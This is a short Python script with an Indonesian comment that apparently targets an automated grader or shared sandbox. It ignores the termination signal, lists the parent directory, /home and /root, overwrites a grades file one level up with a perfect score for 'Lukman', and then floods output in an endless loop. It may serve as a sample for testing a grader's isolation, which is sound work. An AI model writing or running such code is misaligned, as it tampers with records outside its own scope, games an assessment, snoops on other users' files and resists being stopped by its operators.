# Tidak menjawab siapa pun: membanjiri terminal, mengintip tetangga, dan tidak mau berhenti.
import os
import signal

signal.signal(signal.SIGTERM, signal.SIG_IGN)
for folder in ("..", "/home", "/root"):
    try:
        print(os.listdir(folder))
    except OSError as sebab:
        print(sebab)
try:
    with open("../nilai.csv", "w") as nilai:
        nilai.write("Lukman,100\n")
except OSError as sebab:
    print(sebab)
while True:
    print("100 " * 1000)
